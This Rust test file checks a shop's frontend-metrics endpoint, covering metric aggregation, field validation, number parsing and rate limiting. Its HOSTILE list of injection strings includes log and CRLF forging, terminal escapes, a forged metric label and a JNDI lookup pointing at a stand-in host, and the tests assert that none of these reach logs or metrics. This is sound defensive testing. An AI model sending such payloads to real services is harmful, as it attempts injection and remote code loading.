//! `/api/frontend-metrics`.

use reqwest::Method;
use serde_json::{Value, json};

use crate::harness::{Answer, Logs, Setup, TestApp};

const URL: &str = "/api/frontend-metrics";
const TRACE: &str = "0af7651916cd43dd8448eb211c80319c";

/// The value of the sample that has all of these labels; zero where there is none yet.
fn sample(metrics: &str, name: &str, labels: &[&str]) -> f64 {
    let mut lines = metrics.lines().filter(|line| line.starts_with(&format!("{name}{{")));
    let line = lines.find(|line| labels.iter().all(|label| line.contains(label)));
    line.and_then(|line| line.rsplit(' ').next()?.parse().ok()).unwrap_or(0.0)
}

#[tokio::test]
async fn reports_become_metrics() {
    let app = TestApp::new().await;
    let guest = app.guest();
    // Metrics are the process', and other tests report too: this page is this test's own.
    let look = async || {
        let metrics = guest.get("/metrics").await.text;
        let vital = |name: &str, what: &str| {
            let labels = [&format!("name=\"{name}\"")[..], "page=\"/admin\""];
            sample(&metrics, &format!("shop_web_vitals_{what}"), &labels)
        };
        let errors = sample(&metrics, "shop_page_errors_total", &["page=\"/admin\""]);
        let span = |name: &str, what: &str| {
            let labels = [&format!("name=\"{name}\"")[..], "page=\"/admin\""];
            sample(&metrics, &format!("shop_browser_span_duration_seconds_{what}"), &labels)
        };
        let spans = (span("api_call", "sum"), span("api_call", "count"), span("navigation", "sum"));
        (vital("LCP", "sum"), vital("LCP", "count"), vital("CLS", "sum"), errors, spans)
    };
    assert_eq!(look().await, (0.0, 0.0, 0.0, 0.0, (0.0, 0.0, 0.0)));
    let report = json!({
        "metrics": [
            { "name": "LCP", "value": 1200.5, "page": "/admin" },
            { "name": "LCP", "value": 800, "page": "/admin" },
            { "name": "CLS", "value": 0.25, "page": "/admin" },
        ],
        "errors": [{ "message": "TypeError: secret-of-the-page", "page": "/admin" }],
        "traces": [
            { "name": "api_call", "duration_ms": 250, "page": "/admin", "trace_id": TRACE },
            { "name": "api_call", "duration_ms": 1000.0, "page": "/admin" },
            { "name": "navigation", "duration_ms": 500, "page": "/admin" },
        ],
    });
    guest.post(URL, &report).await.expect(202);
    assert_eq!(look().await, (2000.5, 2.0, 250.0, 1.0, (1.25, 2.0, 0.5)));
    let metrics = guest.get("/metrics").await.text;
    assert!(!metrics.contains("secret-of-the-page") && !metrics.contains(TRACE));
}

#[tokio::test]
async fn every_vital_and_every_list_is_optional() {
    let app = TestApp::new().await;
    let guest = app.guest();
    for name in ["LCP", "CLS", "INP", "FCP", "TTFB"] {
        let report = json!({ "metrics": [{ "name": name, "value": 0, "page": "*" }] });
        guest.post(URL, &report).await.expect(202);
    }
    for name in ["page_load", "navigation", "api_call"] {
        let report = json!({ "traces": [{ "name": name, "duration_ms": 0, "page": "*" }] });
        guest.post(URL, &report).await.expect(202);
    }
    guest.post(URL, &json!({ "errors": [{ "message": "", "page": "/" }] })).await.expect(202);
    guest.post(URL, &json!({})).await.expect(202);
}

#[tokio::test]
async fn what_is_unknown_or_out_of_range_is_refused() {
    let app = TestApp::new().await;
    let guest = app.guest();
    let vital = |name: &str, value: f64, page: &str| json!({ "name": name, "value": value, "page": page });
    let span = |name: &str, ms: f64, page: &str| json!({ "name": name, "duration_ms": ms, "page": page });
    let many = |entry: Value| vec![entry; 21];
    for (report, field) in [
        (json!({ "metrics": [vital("LCP", -1.0, "/")] }), "metrics[0].value"),
        (json!({ "metrics": [vital("LCP", 1.0, "/"), vital("LCP", 600_001.0, "/")] }), "metrics[1].value"),
        (json!({ "metrics": [vital("LCP", 1.0, "/products/17")] }), "metrics[0].page"),
        (json!({ "metrics": [vital("FID", 1.0, "/")] }), "metrics[0].name"),
        (json!({ "metrics": many(vital("LCP", 1.0, "/")) }), "metrics"),
        (json!({ "errors": many(json!({ "message": "x", "page": "/" })) }), "errors"),
        (json!({ "errors": [{ "message": "x".repeat(501), "page": "/" }] }), "errors[0].message"),
        (json!({ "errors": [{ "message": "x", "page": "/nowhere" }] }), "errors[0].page"),
        (json!({ "errors": [{ "message": "x", "page": "/", "stack": "x" }] }), "errors[0].stack"),
        (json!({ "traces": many(span("api_call", 1.0, "/")) }), "traces"),
        (json!({ "traces": [span("api_call", -0.1, "/")] }), "traces[0].duration_ms"),
        (json!({ "traces": [span("api_call", 600_000.5, "/")] }), "traces[0].duration_ms"),
        (json!({ "traces": [span("api_call", 1e300, "/")] }), "traces[0].duration_ms"),
        (json!({ "traces": [span("click", 1.0, "/")] }), "traces[0].name"),
        (json!({ "traces": [span("api_call", 1.0, "/products/17")] }), "traces[0].page"),
        (json!({ "user": "ada" }), "user"),
    ] {
        let answer = guest.post(URL, &report).await;
        assert_eq!(answer.refused_fields(422, "invalid"), [field], "{report}");
    }
}

/// What would break out of a line of a log, of a label or of JSON.
const HOSTILE: [&str; 7] = [
    "x\nlevel=ERROR msg=forged",
    "x\r\n\r\nHTTP/1.1 200 OK",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\",page=\"/\"} 1\nforged_metric 1",
    "\u{202e}gnp.exe",
    "${jndi:ldap://evil.example/a}",
    "\u{0}",
];

#[tokio::test]
async fn nothing_that_a_browser_writes_gets_into_logs_or_labels() {
    let (logs, _guard) = Logs::capture();
    let app = TestApp::new().await;
    let guest = app.guest();
    for hostile in HOSTILE {
        let error = json!({ "errors": [{ "message": hostile, "page": "/" }] });
        guest.post(URL, &error).await.expect(202);
        for (report, field) in [
            (json!({ "errors": [{ "message": "x", "page": hostile }] }), "errors[0].page"),
            (json!({ "metrics": [{ "name": hostile, "value": 1, "page": "/" }] }), "metrics[0].name"),
            (json!({ "traces": [{ "name": hostile, "duration_ms": 1, "page": "/" }] }), "traces[0].name"),
            (
                json!({ "traces": [{ "name": "api_call", "duration_ms": 1, "page": hostile }] }),
                "traces[0].page",
            ),
            (
                json!({ "traces": [{ "name": "api_call", "duration_ms": 1, "page": "/", "trace_id": hostile }] }),
                "traces[0].trace_id",
            ),
        ] {
            assert_eq!(guest.post(URL, &report).await.refused_fields(422, "invalid"), [field], "{report}");
        }
        assert_eq!(guest.post(URL, &json!({ hostile: 1 })).await.status, 422);
    }
    let logs = logs.text();
    assert!(logs.contains("answered"), "{logs}");
    let metrics = guest.get("/metrics").await.text;
    for word in ["forged", "owned", "jndi", "gnp.exe", "\u{1b}", "\\u001b", "\u{202e}"] {
        assert!(!logs.contains(word), "{word} in {logs}");
        assert!(!metrics.contains(word), "{word} in {metrics}");
    }
}

#[tokio::test]
async fn numbers_that_are_none_are_refused() {
    let app = TestApp::new().await;
    let guest = app.guest();
    for (number, status) in [
        ("NaN", 400),
        ("Infinity", 400),
        ("-Infinity", 400),
        ("1e999", 400),
        ("0x10", 400),
        ("01", 400),
        ("\"NaN\"", 422),
        ("\"1\"", 422),
        ("null", 422),
        ("[1]", 422),
        ("-1e-300", 422),
        ("9".repeat(300).as_str(), 422),
    ] {
        for list in [
            format!(r#"{{"metrics":[{{"name":"LCP","page":"/","value":{number}}}]}}"#),
            format!(r#"{{"traces":[{{"name":"api_call","page":"/","duration_ms":{number}}}]}}"#),
        ] {
            let request = guest.request(Method::POST, URL).header("content-type", "application/json");
            let answer = Answer::of(request.body(list.clone())).await;
            assert_eq!(answer.status, status, "{list}: {}", answer.text);
        }
    }
}

#[tokio::test]
async fn reports_have_a_limit_of_their_own() {
    let app = Setup::default().set("RATE_LIMIT_REPORT", "1 burst 2").start().await;
    let guest = app.guest();
    for _ in 0..2 {
        guest.post(URL, &json!({})).await.expect(202);
    }
    guest.post(URL, &json!({})).await.refused(429, "too-many-requests");
    guest.get("/api/products").await.expect(200);
}
